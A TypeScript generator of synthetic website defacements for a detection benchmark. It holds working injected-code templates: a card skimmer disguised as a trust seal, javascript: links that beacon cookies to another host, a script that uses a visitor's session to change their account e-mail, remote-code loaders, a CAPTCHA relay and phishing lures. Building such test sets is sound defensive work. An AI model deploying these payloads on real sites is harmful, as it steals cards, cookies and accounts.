/**
 * Fresh17 defacement classes: written after round 16, by someone who does
 * not read the engines, from public descriptions of real defacements,
 * skimmers, phishing kits, SEO spam and scams. New techniques and
 * placements: a Web Monetization payment pointer of another wallet in the
 * head, Smart App Banner tags promoting another developer's app, feed and
 * oEmbed discovery links pointed at another host, a loader in the onload
 * handler of a preload (or print-media) stylesheet link, a card skimmer
 * dressed as a site trust seal from a look-alike seal host, the site's own
 * links turned into javascript: URLs that load code before navigating, a
 * public "top referrers" list filled with referrer-spam domains, a script
 * that uses a signed-in visitor's session to change the e-mail address of
 * their account on the site, a "prove you're human" gate whose real
 * CAPTCHA widget carries another site's key and sends the solved token
 * away (CAPTCHA relay), an e-signature envelope lure and a "cloud storage
 * full" renewal lure; defacer presentations not used before (every link's
 * text replaced by the crew's tag with the addresses kept, a Rick Astley
 * rickroll, a sarcastic "calm down" pill advert, football rivals' fans
 * claiming the site, a spray-painted graffiti tag over the header, a
 * link-in-bio page served instead of the site); hacktivist presentations
 * not used before (a war-losses tally addressed to an aggressor's citizens,
 * an industrial control panel takeover claim); and scam and spam verticals
 * not used before (IT certification exam dumps and proxy testing, fake
 * review selling, heating-oil and pellet fake shops, resold official
 * appointment slots, diesel emissions defeat kits, credit privacy numbers
 * and tradelines, forex account management, "power saver" plugs, fake
 * seized-vehicle auctions, tap-to-earn Telegram airdrops and football
 * trials abroad for a fee). Each differs from every class in defacements.ts
 * and fresh-defacements.ts through fresh16-defacements.ts (not a re-wording
 * of one) and varies its templates, languages, domains, positions and
 * sizes. The writer had no internet access: every source below is recalled
 * from memory, with its outlet and an approximate date where known, and its
 * comment says so. Scored in the `fresh17` group, never tuned on.
 */
import { type ChangeClass, attrTargets, bottom, brandName, head, resolve, shown, top, trimmed } from "./classes.js"
import type { Page } from "./corpus.js"
import { type Change, type Splice, anySlot, esc, insert, replace, slotAt, splices } from "./edit.js"
import { type Lang, groupIban, iban, someDate } from "./locales.js"
import type { Range } from "./locate.js"
import { type Rng, alnum, between, chance, digits, hex, pick, sample, upper } from "./rng.js"
import { brandLookalike, libLookalike, nick, randomDomain, signature, slug, team } from "./words.js"

const fresh17 = (name: string, make: (page: Page, rng: Rng) => Change): ChangeClass => ({ name, kind: "defacement", group: "fresh17", make })

/** A JavaScript string literal that cannot close the script element it sits in. */
const js = (s: string) => JSON.stringify(s).replace(/</g, "\\u003c")
const wrapScript = (rng: Rng, code: string) =>
  `<script${chance(rng, 0.2) ? ` type="text/javascript"` : ""}>${pick(rng, [() => code, () => `(function(){${code}})();`, () => `document.addEventListener("DOMContentLoaded",function(){${code}});`])()}</script>`
const tld = (rng: Rng) => pick(rng, ["com", "net", "top", "xyz", "site", "online", "shop", "info", "click", "icu", "live", "pro", "vip", "org", "cc", "store", "io", "app", "biz", "to", "eu", "de"])
/** Just after the head's open tag (the end of the head when the page has no head element). */
const headStart = (page: Page) => page.spots.elements.find((e) => e.name === "head" && !e.inBody)?.openEnd ?? head(page)
/** Where a script goes: the start or end of the head, top, middle or bottom of the body. */
const scriptSpot = (rng: Rng, page: Page) => pick(rng, [head(page), headStart(page), top(page), bottom(page), slotAt(page.spots, "middle")])
/** Near the top of the page, where a notice is read first, or anywhere. */
const noticeSpot = (rng: Rng, page: Page) => pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)])
/** Where a spam block goes: the middle, the bottom, anywhere. */
const spamSpot = (rng: Rng, page: Page) => pick(rng, [slotAt(page.spots, "middle"), slotAt(page.spots, "bottom"), anySlot(rng, page.spots), bottom(page)])
const someSpot = (rng: Rng, page: Page) => pick(rng, [noticeSpot(rng, page), spamSpot(rng, page)])
/** A host a scam runs on: a themed name on a cheap TLD, a random domain, or a look-alike of the site. */
const host = (rng: Rng, page: Page, words: ReadonlyArray<string>) =>
  pick(rng, [() => `${pick(rng, words)}-${pick(rng, ["online", "direct", "club", "world", "now", "shop", "hub", "24", "service"])}.${tld(rng)}`, () => `${pick(rng, words)}${digits(rng, 2)}.${tld(rng)}`, () => `${pick(rng, words)}${pick(rng, words)}.${tld(rng)}`, () => randomDomain(rng), () => brandLookalike(rng, page.site.brand)])()
const intlMobile = (rng: Rng) =>
  pick(rng, [
    () => `+44 7${digits(rng, 3)} ${digits(rng, 6)}`, () => `+1 ${between(rng, 201, 989)} ${digits(rng, 3)} ${digits(rng, 4)}`, () => `+34 6${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 3)}`,
    () => `+49 15${digits(rng, 1)} ${digits(rng, 8)}`, () => `+371 2${digits(rng, 7)}`, () => `+380 ${pick(rng, ["50", "67", "93"])} ${digits(rng, 3)} ${digits(rng, 4)}`,
    () => `+971 5${digits(rng, 1)} ${digits(rng, 3)} ${digits(rng, 4)}`, () => `+90 5${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 2)} ${digits(rng, 2)}`, () => `+351 9${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 3)}`
  ])()
const wa = (rng: Rng, n: string = intlMobile(rng)) => `WhatsApp <a href="https://wa.me/${n.replace(/[^0-9]/g, "")}">${esc(n)}</a>`
const handle = (rng: Rng, words: ReadonlyArray<string>) => `${pick(rng, words)}${pick(rng, ["_official", "_admin", "_sales", digits(rng, 2), "bot", "_vip", "_store", "_team", "_support"])}`
const tg = (rng: Rng, words: ReadonlyArray<string>) => {
  const h = handle(rng, words)
  return `Telegram <a href="https://t.me/${h}">@${h}</a>`
}
const contact = (rng: Rng, words: ReadonlyArray<string>) => pick(rng, [() => tg(rng, words), () => wa(rng), () => `${tg(rng, words)} · ${wa(rng)}`])()
/** A box around a notice or a spam block, in one of a few looks. */
const box = (rng: Rng, cls: ReadonlyArray<string>, accent: string, inner: string) =>
  `<div class="${pick(rng, cls)}" style="${pick(rng, [`border:2px solid ${accent};background:#fff;padding:14px 16px;margin:12px 0`, `border-left:6px solid ${accent};background:#f7f7f7;padding:12px 16px;margin:14px 0`, `border:1px dashed ${accent};border-radius:8px;background:#fffef8;padding:16px;margin:12px auto;max-width:760px`, `background:${accent};color:#fff;padding:14px 18px;margin:10px 0`, `box-shadow:0 2px 8px rgba(0,0,0,.18);padding:14px;margin:16px 0;background:#fff;border-radius:10px`])};font-family:${pick(rng, ["Arial,sans-serif", "Tahoma,sans-serif", "Verdana,sans-serif", "Georgia,serif", "system-ui,sans-serif", "Helvetica,sans-serif"])}">${inner}</div>`
const button = (rng: Rng, accent: string) => `background:${accent};color:#fff;border:0;padding:${pick(rng, ["8px 16px", "10px 22px", "7px 14px"])};border-radius:${pick(rng, ["0", "4px", "24px"])};cursor:pointer;text-decoration:none;display:inline-block`
type Table<A> = Partial<Record<Lang, A>> & { readonly en: A }
/** The site's language most of the time when there is a text for it, else English. */
const some = <A>(rng: Rng, page: Page, table: Table<A>): A => (chance(rng, 0.7) ? table[page.site.locale.lang] ?? table.en : table.en)
const personName = (rng: Rng) => `${pick(rng, ["Jonas", "Marta", "Viktor", "Elena", "Patrick", "Sandra", "Dario", "Ines", "Florian", "Agata", "Ruben", "Milena", "Karel", "Svetlana"])} ${pick(rng, ["Kazlauskas", "Berger", "Popescu", "Ruiz", "Wagner", "Nowak", "Costa", "Dumont", "Varga", "Petrauskas", "Klein", "Santos"])}`
const rows = (cells: ReadonlyArray<ReadonlyArray<string>>) => cells.map((r) => `<tr>${r.map((c) => `<td>${c}</td>`).join("")}</tr>`).join("")
const uuid = (rng: Rng) => `${hex(rng, 8)}-${hex(rng, 4)}-4${hex(rng, 3)}-${pick(rng, ["8", "9", "a", "b"])}${hex(rng, 3)}-${hex(rng, 12)}`
const who = (rng: Rng) => pick(rng, [nick(rng), team(rng), nick(rng)])
/** Writes `text` as an attribute value over `value`, safe whatever quotes the page used (an unquoted value gets double quotes). */
const attrWrite = (page: Page, value: Range, text: string): Splice => {
  const q = page.html[value.start - 1]
  return q === "\"" || q === "'" ? replace(value, esc(text).replace(/'/g, "&#39;")) : replace(value, `"${esc(text)}"`)
}
/** The site's own shown links (same host, not fragments). */
const ownLinks = (page: Page) => {
  const self = new URL(page.site.url).hostname
  return shown(page, "a", (e) => {
    const h = e.attribs.href
    if (h === undefined || h.trim() === "" || h.trim().startsWith("#")) return false
    const u = resolve(page, h)
    return u !== null && u.hostname === self
  })
}

// Web Monetization, recalled from memory of the Web Monetization proposal (Coil and the Interledger Foundation, about 2019–2023: first a <meta name="monetization" content="$wallet/..."> payment pointer, replaced about 2021–2023 by <link rel="monetization" href="https://wallet/...">, paying the site per second a monetizing visitor stays) and of its explainer's caution that whoever controls the tag receives the stream: a payment pointer of a wallet that is not the site's (Uphold, GateHub, Fynbos or a random wallet host) written into the head, nothing shown.
const webMonetization = fresh17("Web Monetization payment pointer of another wallet added to the head (meta monetization or link rel=monetization), nothing shown", (page, rng) => {
  const [pointer, url] = pick(rng, [
    () => { const id = alnum(rng, between(rng, 10, 14)); return [`$ilp.uphold.com/${id}`, `https://ilp.uphold.com/${id}`] as const },
    () => { const id = `${digits(rng, 9)}/${pick(rng, ["USD", "EUR", "XRP"])}`; return [`$ilp.gatehub.net/${id}`, `https://ilp.gatehub.net/${id}`] as const },
    () => { const id = slug(nick(rng)) || alnum(rng, 8); return [`$wallet.fynbos.app/${id}`, `https://wallet.fynbos.app/${id}`] as const },
    () => { const h = randomDomain(rng); const id = alnum(rng, 8); return [`$${h}/${id}`, `https://${h}/${id}`] as const }
  ])()
  const tags = pick(rng, [
    () => `<meta name="monetization" content="${esc(pointer)}">`,
    () => `<link rel="monetization" href="${esc(url)}">`,
    () => `<meta name="monetization" content="${esc(pointer)}"><link rel="monetization" href="${esc(url)}">`
  ])()
  return splices(insert(pick(rng, [head(page), headStart(page)]), tags))
})

// Smart App Banners, recalled from memory of Apple's "Promoting Apps with Smart App Banners" documentation (iOS 6, 2012: <meta name="apple-itunes-app" content="app-id=..., app-argument=..."> makes Safari show a banner with that App Store app over the page), of the Android counterparts some sites add, and of reports of look-alike apps of wallets, banks and password managers that reached the App Store (a fake Trezor app, about 2021; a fake LastPass app, about February 2024): banner tags naming another developer's app, sometimes with an app argument on another host, so iPhone visitors are offered that app as the site's.
const smartBannerHijack = fresh17("Smart App Banner meta tags promoting another developer's app (apple-itunes-app, google-play-app) in the head", (page, rng) => {
  const other = pick(rng, [brandLookalike(rng, page.site.brand), randomDomain(rng)])
  const b = page.site.brand.replace(/[^a-z0-9]/gi, "").toLowerCase() || "app"
  const parts = [`app-id=${between(rng, 1400000000, 6749999999)}`]
  if (chance(rng, 0.5)) parts.push(`app-argument=https://${other}/${pick(rng, ["open", "app/login", "start", "m"])}?src=${b}`)
  if (chance(rng, 0.25)) parts.push(`affiliate-data=at=${alnum(rng, 8)}&ct=${b}`)
  const tags = [`<meta name="apple-itunes-app" content="${esc(parts.join(", "))}">`]
  if (chance(rng, 0.45)) tags.push(`<meta name="google-play-app" content="app-id=${pick(rng, ["com", "app", "io", "net"])}.${b}${pick(rng, ["", ".secure", ".official", "2", ".wallet"])}.${pick(rng, ["android", "app", "mobile", "client"])}">`)
  if (chance(rng, 0.3)) tags.push(`<link rel="apple-touch-icon" href="https://${other}/icon-180.png">`)
  return splices(insert(pick(rng, [head(page), headStart(page)]), tags.join("")))
})

// Feed and embed discovery, recalled from memory, with uncertain sources, of the RSS and Atom autodiscovery convention (<link rel="alternate" type="application/rss+xml">, about 2002 on, which feed readers and podcast apps follow when given a site's address), of oEmbed discovery links (oEmbed, 2008; WordPress adds them for every post) that chat apps and CMSs read to build previews, and of reports on hijacked podcast and blog feeds republished with spam and ads: discovery links naming a feed or oEmbed endpoint on another host, sometimes with a visible feed link, so subscribers and embeds get that host's content under the site's name.
const feedDiscoveryHijack = fresh17("RSS, Atom, JSON Feed or oEmbed discovery links in the head pointing at another host's feed or embed endpoint", (page, rng) => {
  const other = pick(rng, [randomDomain(rng), brandLookalike(rng, page.site.brand), `${slug(page.site.brand) || "feed"}.${pick(rng, ["feedpress-cdn", "rssfeeds", "podhost", "feedsync"])}.${tld(rng)}`, `${alnum(rng, 8)}.${pick(rng, ["pages.dev", "netlify.app", "web.app"])}`])
  const name = brandName(page)
  const feed = `https://${other}/${pick(rng, ["feed/", "rss.xml", "index.xml", "podcast.xml", "feeds/posts/default"])}`
  const all = [
    `<link rel="alternate" type="application/rss+xml" title="${esc(name)} » ${pick(rng, ["Feed", "RSS", "Podcast", "News"])}" href="${feed}">`,
    `<link rel="alternate" type="application/atom+xml" title="${esc(name)} - Atom" href="https://${other}/atom.xml">`,
    `<link rel="alternate" type="application/feed+json" title="${esc(name)}" href="https://${other}/feed.json">`,
    `<link rel="alternate" type="application/json+oembed" href="https://${other}/oembed?url=${encodeURIComponent(page.site.url)}&amp;format=json">`,
    `<link rel="alternate" type="text/xml+oembed" href="https://${other}/oembed?url=${encodeURIComponent(page.site.url)}&amp;format=xml">`
  ]
  const out: Array<Splice> = [insert(pick(rng, [head(page), headStart(page)]), sample(rng, all, between(rng, 1, 3)).join(""))]
  if (chance(rng, 0.3)) out.push(insert(pick(rng, [bottom(page), slotAt(page.spots, "bottom")]), `<p class="${pick(rng, ["feeds", "rss", "subscribe"])}"><a href="${feed}">RSS</a></p>`))
  return { splices: out }
})

// Loaders in link handlers, recalled from memory, with uncertain sources, of the Filament Group's loadCSS pattern (about 2016–2019: <link rel="preload" as="style" onload="this.rel='stylesheet'"> and the media="print" onload="this.media='all'" trick, copied onto very many sites) and of clean-up notes by hosting and security firms (about 2020–2024) on injected code hidden in the onload attribute of such links, where a reviewer skimming script tags does not look: a preload or print-media stylesheet link to another host whose onload handler also loads or evaluates code from there.
const preloadOnloadLoader = fresh17("loader hidden in the onload handler of a preload or print-media stylesheet link to another host (loadCSS pattern)", (page, rng) => {
  const h = pick(rng, [libLookalike(rng), randomDomain(rng), brandLookalike(rng, page.site.brand)])
  const css = `https://${h}/${pick(rng, ["css/fonts.css", "assets/critical.min.css", "wp-content/cache/min/1/style.css", "s/main.css", "fonts/inter.css"])}?ver=${between(rng, 1, 9)}.${between(rng, 0, 9)}.${between(rng, 0, 9)}`
  const jsUrl = `https://${h}/${pick(rng, ["js/font-loader.js", "static/lazy.js", "s/" + alnum(rng, 6) + ".js", "cdn/fontface.min.js"])}`
  const payload = `location.hostname.indexOf(${js(page.site.domain)})>-1&&document.cookie.indexOf("_fl")<0&&(document.cookie="_fl=1;max-age=86400;path=/",window.location=${js(`https://${randomDomain(rng)}/${pick(rng, ["r", "go", "lp"])}/${alnum(rng, 6)}`)})`
  const code = pick(rng, [
    () => `var s=document.createElement("script");s.src=${js(jsUrl)};document.head.appendChild(s)`,
    () => `fetch(${js(jsUrl)}).then(function(r){return r.text()}).then(function(t){(0,eval)(t)})`,
    () => `new Function(atob(${js(Buffer.from(payload).toString("base64"))}))()`
  ])()
  const tag = pick(rng, [
    () => `<link rel="preload" href="${css}" as="style" onload="${esc(`this.onload=null;this.rel="stylesheet";${code}`)}">${chance(rng, 0.5) ? `<noscript><link rel="stylesheet" href="${css}"></noscript>` : ""}`,
    () => `<link rel="stylesheet" href="${css}" media="print" onload="${esc(`this.media="all";${code}`)}">`,
    () => `<link rel="preload" href="${css}" as="style" onerror="${esc(code)}" onload="${esc(`this.rel="stylesheet";${code}`)}">`
  ])()
  return splices(insert(pick(rng, [head(page), head(page), headStart(page), top(page)]), tag))
})

const seals = [["Norton Secured", "norton"], ["McAfee SECURE", "mcafee"], ["SiteLock SECURE", "sitelock"], ["Trustwave Trusted Commerce", "trustwave"], ["Comodo Secure", "comodo"], ["GeoTrust Secured", "geotrust"], ["TrustedSite Certified Secure", "trustedsite"]] as const

// Fake trust seals, recalled from memory, with uncertain sources, of web-skimming reports (about 2019–2023, from Sucuri, Malwarebytes and Sansec) on skimmers named and placed like the "secured by" seals shops put near the checkout, and of the seal programmes themselves (Norton Secured, McAfee SECURE, SiteLock, Trustwave, whose real seals load a script from the vendor): a seal picture and script from a look-alike seal host, the script copying what is typed into the site's forms to that host.
const trustSealSkimmer = fresh17("card skimmer dressed as a site trust seal (Norton Secured, McAfee SECURE, SiteLock) loaded from a look-alike seal host", (page, rng) => {
  const [label, key] = pick(rng, seals)
  const h = pick(rng, [`${pick(rng, ["seal", "secure", "trust", "verify", "ssl"])}-${key}.${tld(rng)}`, `${key}-${pick(rng, ["seal", "secured", "verify", "trustmark"])}.${tld(rng)}`, `${key}${pick(rng, ["seal", "secure", "cdn"])}.${tld(rng)}`])
  const img = `<a href="https://${h}/verify?site=${encodeURIComponent(page.site.host)}" target="_blank" rel="nofollow"><img src="https://${h}/seal/${pick(rng, ["seal", "badge", key + "-secured", "v2/seal"])}.${pick(rng, ["png", "svg", "gif"])}" alt="${esc(label)}" width="${between(rng, 90, 130)}" height="${between(rng, 40, 60)}"></a>`
  const skim = `document.addEventListener("${pick(rng, ["submit", "change"])}",function(e){var f=e.target.form||e.target,o={h:location.host};if(!f.elements)return;for(var i=0;i<f.elements.length;i++){var x=f.elements[i];if(x.name&&x.value)o[x.name]=x.value}navigator.sendBeacon(${js(`https://${h}/${pick(rng, ["seal/stat", "v1/verify", "t.gif", "check"])}`)},btoa(unescape(encodeURIComponent(JSON.stringify(o)))))},true);`
  const script = pick(rng, [
    () => `<script src="https://${h}/${pick(rng, ["seal.js", "js/seal.min.js", "getseal.js"])}?host=${encodeURIComponent(page.site.host)}"${chance(rng, 0.5) ? " async" : ""}></script>`,
    () => `<script>${skim}</script>`,
    () => `<script>var _sealcfg={id:"${alnum(rng, 12)}",host:location.host};${skim}</script>`
  ])()
  const wrap = `<div class="${pick(rng, ["trust-seal", "secure-badge", "site-seal", "footer-seals"])}" style="text-align:${pick(rng, ["center", "left", "right"])};margin:8px 0">${img}${pick(rng, [script, ""])}</div>`
  const out: Array<Splice> = [insert(pick(rng, [bottom(page), slotAt(page.spots, "bottom"), anySlot(rng, page.spots)]), wrap)]
  if (!wrap.includes("<script")) out.push(insert(pick(rng, [head(page), bottom(page)]), script))
  return { splices: out }
})

// javascript: links, recalled from memory of OWASP's XSS filter-evasion and prevention cheat sheets (javascript: URIs in href as a classic stored-XSS vector) and of WordPress plugin advisories (Wordfence, Patchstack, about 2019–2024) where a menu or button URL field accepted javascript: and an intruder or low-privileged user stored code there: some of the site's own links rewritten as javascript: URLs that load or beacon to another host and then go to the original address, so clicks still seem to work.
const javascriptLinks = fresh17("site's own links rewritten as javascript: URLs that load code from another host or send cookies, then navigate to the original address", (page, rng) => {
  const h = pick(rng, [libLookalike(rng), randomDomain(rng), brandLookalike(rng, page.site.brand)])
  const code = (orig: string) => {
    const o = js(orig.replace(/%/g, "%25"))
    return pick(rng, [
      () => `javascript:void((function(){var s=document.createElement("script");s.src="https://${h}/${pick(rng, ["l.js", "nav.js", "c/" + alnum(rng, 5) + ".js"])}";document.head.appendChild(s);setTimeout(function(){location.href=${o}},${between(rng, 200, 700)})})())`,
      () => `javascript:(function(){new Image().src="https://${h}/${pick(rng, ["p", "c", "t.gif"])}?d="+encodeURIComponent(document.cookie);location.href=${o}})()`,
      () => `javascript:location.href="https://${h}/${pick(rng, ["go", "out", "r"])}?to="+encodeURIComponent(${o})`
    ])()
  }
  const links = ownLinks(page)
  const targets = attrTargets(page, sample(rng, links, between(rng, 1, Math.max(1, Math.min(12, links.length)))), "href")
  if (targets.length === 0) {
    return splices(insert(noticeSpot(rng, page), `<p class="${pick(rng, ["quick-links", "nav-extra", "more"])}"><a href="${esc(code(page.site.url))}">${esc(brandName(page))}</a></p>`))
  }
  return { splices: targets.map(({ el, value }) => attrWrite(page, value, code(resolve(page, el.attribs.href ?? "/")?.href ?? page.site.url))) }
})

const referrerWords: Table<readonly [string, string]> = {
  en: ["Top referrers this week", "Visits"], fr: ["Principaux sites référents", "Visites"], de: ["Top-Verweise dieser Woche", "Besuche"], es: ["Principales sitios de referencia", "Visitas"],
  nl: ["Belangrijkste verwijzers", "Bezoeken"], pt: ["Principais sites de referência", "Visitas"], it: ["Principali siti di provenienza", "Visite"]
}

// Referrer spam, recalled from memory of the 2014–2016 wave of referrer spam (Semalt, darodar, buttons-for-website, best-seo-offer and their kin, written up by analytics consultants and Moz) that faked visits so the spam domains appeared in site statistics, and of the public AWStats and Webalizer pages and "top referrers" widgets of blogs that then listed and linked those domains for search engines: a visible referrer list or table on the page, most of its entries spam domains, some linked.
const referrerSpam = fresh17("public 'top referrers' list filled with referrer-spam domains (Semalt, darodar, buttons-for-website style), several linked", (page, rng) => {
  const [h, visits] = some(rng, page, referrerWords)
  const spam = () => `${pick(rng, ["buttons-for-", "free-share-buttons", "best-seo-", "get-free-traffic-", "traffic2cash", "4webmasters", "seo-platform", "site-auditor", "cheap-backlinks", "web-analytics-check", "social-buttons", "free-floating-buttons", "semalt", "darodar", "rank-checker", "success-seo", "free-video-tool"])}${pick(rng, ["", "now", "online", "website", "xyz", digits(rng, 1), "-pro"])}.${pick(rng, ["com", "org", "net", "xyz", "info", "ru", "top", "su"])}`
  const legit = ["google.com", "bing.com", "duckduckgo.com", "facebook.com", "t.co", "news.ycombinator.com", "reddit.com"]
  const entries = [...Array.from({ length: between(rng, 5, 12) }, spam), ...sample(rng, legit, between(rng, 1, 3))]
  const counts = entries.map(() => between(rng, 3, 4800)).sort((a, b) => b - a)
  const items = sample(rng, entries, entries.length).map((d, i) => [chance(rng, 0.7) ? `<a href="http://${d}/">${d}</a>` : d, String(counts[i])] as const)
  const inner = chance(rng, 0.5)
    ? `<h4>${esc(h)}</h4><table class="stats"><tr><th>Referrer</th><th>${esc(visits)}</th></tr>${rows(items)}</table>`
    : `<h4>${esc(h)}</h4><ol>${items.map(([d, n]) => `<li>${d} (${n})</li>`).join("")}</ol>`
  return splices(insert(spamSpot(rng, page), `<div class="${pick(rng, ["referrers", "widget stats", "top-refs", "awstats"])}" style="font-size:${pick(rng, ["12px", "13px", "small"])}">${inner}</div>`))
})

// Session riding by an injected script, recalled from memory of Samy Kamkar's MySpace worm (October 2005), which used each visitor's own session to edit their profile, of the TweetDeck self-retweeting XSS (June 2014), and of advisories on WooCommerce and WordPress stored XSS (Wordfence, Patchstack, about 2020–2024) chained into account takeover by changing a logged-in user's e-mail address: a script that fetches the site's own account page, reads its anti-forgery token and posts the visitor's account with the intruder's e-mail (so password resets go there), nothing shown.
const accountEmailChange = fresh17("script using a signed-in visitor's session to change their account e-mail on the site's own account page (CSRF through injected script)", (page, rng) => {
  const mail = `${pick(rng, ["support", "admin", "backup", "recovery", "info", "billing", "acc"])}${digits(rng, 2)}@${pick(rng, ["proton.me", "mail.ru", "gmx.com", "outlook.com", "tutanota.com", "yandex.com", randomDomain(rng)])}`
  const ping = `https://${pick(rng, [randomDomain(rng), libLookalike(rng)])}/${pick(rng, ["ok", "p", "a"])}`
  const code = pick(rng, [
    () => `fetch("/my-account/edit-account/",{credentials:"include"}).then(function(r){return r.text()}).then(function(h){var n=(h.match(/name="save-account-details-nonce" value="([^"]+)"/)||[])[1];if(!n)return;var g=function(k){return((h.match(new RegExp('name="'+k+'"[^>]*value="([^"]*)"'))||[])[1])||""};var b=new URLSearchParams({account_first_name:g("account_first_name"),account_last_name:g("account_last_name"),account_display_name:g("account_display_name"),account_email:${js(mail)},"save-account-details-nonce":n,_wp_http_referer:"/my-account/edit-account/",action:"save_account_details"});return fetch("/my-account/edit-account/",{method:"POST",credentials:"include",body:b})}).then(function(){navigator.sendBeacon(${js(ping)},location.host)})`,
    () => `fetch("/wp-admin/profile.php",{credentials:"include"}).then(function(r){return r.text()}).then(function(h){var n=(h.match(/name="_wpnonce" value="([^"]+)"/)||[])[1],u=(h.match(/name="user_id" value="([0-9]+)"/)||[])[1];if(!n||!u)return;var b=new URLSearchParams({_wpnonce:n,user_id:u,from:"profile",checkuser_id:u,email:${js(mail)},action:"update"});return fetch("/wp-admin/profile.php",{method:"POST",credentials:"include",body:b})}).then(function(){new Image().src=${js(ping)}+"?h="+location.host})`,
    () => `fetch(${js(pick(rng, ["/account/settings", "/account/profile", "/user/edit", "/settings/account"]))},{credentials:"include"}).then(function(r){return r.text()}).then(function(h){var t=(h.match(/name="(?:csrf_token|_token|authenticity_token|csrfmiddlewaretoken)" value="([^"]+)"/)||[])[1];var f=new FormData();f.append("email",${js(mail)});f.append("${pick(rng, ["recovery_email", "email_confirmation", "notify_email"])}",${js(mail)});if(t){f.append("_token",t);f.append("csrf_token",t)}return fetch(${js(pick(rng, ["/account/email", "/account/settings", "/user/update"]))},{method:"POST",credentials:"include",body:f})}).then(function(){navigator.sendBeacon(${js(ping)},document.domain)})`
  ])()
  const gate = pick(rng, [`document.cookie.indexOf("${pick(rng, ["wordpress_logged_in", "session", "logged_in", "sid"])}")>-1||1`, "1", `!localStorage.getItem("_ec")&&(localStorage.setItem("_ec","1"),1)`])
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, `if(${gate}){${code}}`)))
})

const captchaWords: Table<readonly [string, string]> = {
  en: ["Security check", "Please confirm you are human to continue to the site."], fr: ["Vérification de sécurité", "Confirmez que vous êtes humain pour accéder au site."],
  de: ["Sicherheitsprüfung", "Bitte bestätigen Sie, dass Sie ein Mensch sind, um fortzufahren."], es: ["Comprobación de seguridad", "Confirma que eres humano para continuar al sitio."],
  nl: ["Beveiligingscontrole", "Bevestig dat je een mens bent om verder te gaan."], pt: ["Verificação de segurança", "Confirme que você é humano para continuar."],
  it: ["Controllo di sicurezza", "Conferma di essere umano per continuare sul sito."]
}

// CAPTCHA relays, recalled from memory of Sophos' and Trend Micro's write-ups of Troj/CAPTCHA-A (about October 2007), a "strip game" that had players solve CAPTCHAs lifted from webmail sign-ups, and of later research and reports (about 2010–2023) on solving farms that hand other sites' CAPTCHAs to unwitting visitors of compromised or shady sites: a "security check" gate with a real reCAPTCHA, hCaptcha or Turnstile widget whose site key belongs to another site, its solved token sent to another host.
const captchaRelay = fresh17("'security check' gate whose real CAPTCHA widget carries another site's key and sends the solved token to another host (CAPTCHA relay)", (page, rng) => {
  const [h, p] = some(rng, page, captchaWords)
  const cb = `_c${alnum(rng, 6)}`
  const gate = `g${alnum(rng, 5)}`
  const sinkUrl = `https://${pick(rng, [randomDomain(rng), `${pick(rng, ["solve", "task", "cap", "relay"])}-${pick(rng, ["api", "hub", "node"])}.${tld(rng)}`])}/${pick(rng, ["in", "res.php", "api/token", "t"])}`
  const [api, widget] = pick(rng, [
    () => ["https://www.google.com/recaptcha/api.js", `<div class="g-recaptcha" data-sitekey="6L${alnum(rng, 6)}AAAAA${alnum(rng, 27)}" data-callback="${cb}"></div>`] as const,
    () => ["https://js.hcaptcha.com/1/api.js", `<div class="h-captcha" data-sitekey="${uuid(rng)}" data-callback="${cb}"></div>`] as const,
    () => ["https://challenges.cloudflare.com/turnstile/v0/api.js", `<div class="cf-turnstile" data-sitekey="0x4AAAAAAA${alnum(rng, 14)}" data-callback="${cb}"></div>`] as const
  ])()
  const task = alnum(rng, 10)
  const script = `<script>function ${cb}(t){fetch(${js(sinkUrl)},{method:"POST",mode:"no-cors",body:JSON.stringify({task:"${task}",token:t})});var g=document.getElementById("${gate}");if(g)g.parentNode.removeChild(g)}</script><script src="${api}" async defer></script>`
  const overlay = chance(rng, 0.6)
  const card = `<div style="background:#fff;color:#222;max-width:380px;margin:${overlay ? "18vh auto" : "10px auto"};padding:22px;border-radius:8px;box-shadow:0 4px 24px rgba(0,0,0,.25);font-family:system-ui,Arial,sans-serif;text-align:center"><h3 style="margin:0 0 8px">🛡️ ${esc(h)}</h3><p>${esc(p)}</p>${widget}<p style="font-size:11px;color:#888">Ray ID: ${hex(rng, 16)}</p></div>`
  const html = overlay
    ? `<div id="${gate}" style="position:fixed;inset:0;background:rgba(240,240,240,.97);z-index:2147483000">${card}</div>`
    : `<div id="${gate}" class="${pick(rng, ["verify-box", "human-check", "gate"])}">${card}</div>`
  return splices(insert(overlay ? pick(rng, [top(page), bottom(page)]) : noticeSpot(rng, page), html + script))
})

const signWords: Table<(sender: string, doc: string) => readonly [string, string, string]> = {
  en: (s, d) => [`${s} sent you a document to review and sign`, `Please review and sign "${d}". This envelope expires in 48 hours.`, "REVIEW DOCUMENT"],
  fr: (s, d) => [`${s} vous a envoyé un document à signer`, `Merci de consulter et signer « ${d} ». Cette enveloppe expire dans 48 heures.`, "CONSULTER LE DOCUMENT"],
  de: (s, d) => [`${s} hat Ihnen ein Dokument zur Unterschrift gesendet`, `Bitte prüfen und unterschreiben Sie „${d}“. Dieser Umschlag läuft in 48 Stunden ab.`, "DOKUMENT PRÜFEN"],
  es: (s, d) => [`${s} te ha enviado un documento para firmar`, `Revisa y firma «${d}». Este sobre caduca en 48 horas.`, "REVISAR DOCUMENTO"],
  nl: (s, d) => [`${s} heeft u een document gestuurd om te ondertekenen`, `Bekijk en onderteken "${d}". Deze envelop verloopt over 48 uur.`, "DOCUMENT BEKIJKEN"],
  pt: (s, d) => [`${s} enviou um documento para você assinar`, `Revise e assine "${d}". Este envelope expira em 48 horas.`, "REVISAR DOCUMENTO"],
  it: (s, d) => [`${s} ti ha inviato un documento da firmare`, `Rivedi e firma "${d}". Questa busta scade tra 48 ore.`, "RIVEDI DOCUMENTO"]
}
const docTitles: Table<ReadonlyArray<string>> = {
  en: ["Contract amendment", "Salary adjustment 2026", "Settlement statement", "Membership renewal agreement", "Updated payment terms", "Invoice approval"],
  fr: ["Avenant au contrat", "Révision salariale 2026", "Conditions de paiement mises à jour", "Renouvellement d'adhésion"],
  de: ["Vertragsänderung", "Gehaltsanpassung 2026", "Neue Zahlungsbedingungen", "Verlängerung der Mitgliedschaft"],
  es: ["Modificación del contrato", "Ajuste salarial 2026", "Nuevas condiciones de pago", "Renovación de socio"],
